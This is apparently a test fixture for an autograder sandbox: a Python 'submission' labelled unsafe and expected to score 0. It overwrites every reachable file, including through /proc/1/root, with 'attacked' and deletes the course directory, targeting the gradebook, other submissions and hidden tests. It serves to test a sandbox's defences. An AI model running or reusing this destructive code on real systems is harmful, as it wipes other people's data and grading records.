# title: The gradebook, other submissions and the hidden tests are overwritten and deleted
# base: release
# score: 0
# stock: unsafe
import os
import shutil

for top in ("@COURSE@", "/proc/1/root@COURSE@", "/proc/1/cwd", ".."):
    for folder, folders, files in os.walk(top):
        if folder == "..":
            folders[:] = [f for f in folders if f not in ("proc", "sys")]
        for name in files:
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write("attacked")
            except OSError:
                pass
shutil.rmtree("@COURSE@", ignore_errors=True)
